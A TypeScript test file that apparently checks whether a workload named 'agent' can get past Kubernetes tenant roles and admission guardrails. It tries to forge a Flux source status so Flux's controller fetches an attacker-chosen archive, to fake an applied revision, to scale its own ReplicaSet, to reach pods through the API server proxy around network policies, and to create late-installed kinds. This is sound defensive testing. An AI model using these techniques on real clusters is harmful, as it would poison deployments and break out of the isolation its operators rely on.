import { WEB } from '../../../../machine/topology';
import { accepted, asks, asksTheWeb, soon } from '../_attempts';
import { attacks, refused, through } from '../_types';
import { NAMESPACE } from '../_world';

const CONTROLS = ['tenant-role', 'admission-guardrails'];
const SOURCE = 'source.toolkit.fluxcd.io/v1:gitrepositories/client-a/status';
const KUSTOMIZATION = 'kustomize.toolkit.fluxcd.io/v1:kustomizations/client-a/status';

/** What the second control refuses beyond objects that it knows by name: subresources, connections, later kinds. */
export const GUARDRAILS = attacks('i', CONTROLS, {
  'source-status': {
    title: 'reports an archive of its own to Flux, at an address of its choice, which Flux’s controller then fetches',
    attempt: async (world) => {
      let answer = refused('not tried');
      let tried = 0;
      const fetched = await soon(world, () =>
        asksTheWeb(world, 'source-status', async () => {
          tried += 1;
          const artifact = {
            url: `http://${WEB}/source-status`,
            path: 'source-status',
            revision: `main@sha1:${String(tried).padStart(40, '0')}`,
            digest: `sha256:${'0'.repeat(64)}`,
            lastUpdateTime: '2026-01-01T00:00:00Z',
          };
          answer = await asks(world, 'PATCH', SOURCE, { status: { artifact } });
          // Flux's controller sees it, and comes for it.
          if (answer.through) await new Promise((resolve) => setTimeout(resolve, 500));
          return answer.words;
        }),
      );
      return answer.through ? fetched : answer;
    },
  },
  'applied-status': {
    title: 'reports in Flux’s place that its repository is applied',
    attempt: (world) =>
      asks(world, 'PATCH', `${KUSTOMIZATION}?dryRun=All`, { status: { lastAppliedRevision: 'main@sha1:0' } }),
  },
  'scale-replicas': {
    way: 'c',
    title: 'scales the ReplicaSet of its Deployment by itself',
    attempt: async (world) => {
      const { metadata } = await world.podOf(NAMESPACE, 'agent');
      const [{ name }] = metadata.ownerReferences as [{ name: string }];
      return asks(world, 'PATCH', `apps/v1:replicasets/${name}/scale?dryRun=All`, { spec: { replicas: 1 } });
    },
  },
  'api-server-as-proxy': {
    way: 'g',
    title: 'has the API server connect to its pods for it, past the policies for what comes in',
    attempt: async (world) => {
      const { metadata } = await world.podOf(NAMESPACE, 'agent');
      const path = `/api/v1/namespaces/${NAMESPACE}/pods/${metadata.name}:8080/proxy/hostname`;
      // Where its host gets no answer from pods, the API server waits for one longer than we do.
      const waiting = new Promise<undefined>((resolve) => setTimeout(resolve, 10_000, undefined));
      const answer = await Promise.race([world.person.request('GET', path), waiting]);
      if (answer && answer.status >= 400 && answer.status < 500) return accepted(answer);
      return through('the API server connects to the pod');
    },
  },
  'kind-of-later': {
    way: 'c',
    title: 'makes an object of a kind that was installed after the policies',
    attempt: async (world) => {
      const object = { apiVersion: 'later.example.com/v1', kind: 'Gadget', metadata: { name: 'kind-of-later' } };
      return accepted(await world.create('later.example.com/v1:gadgets', object));
    },
  },
});
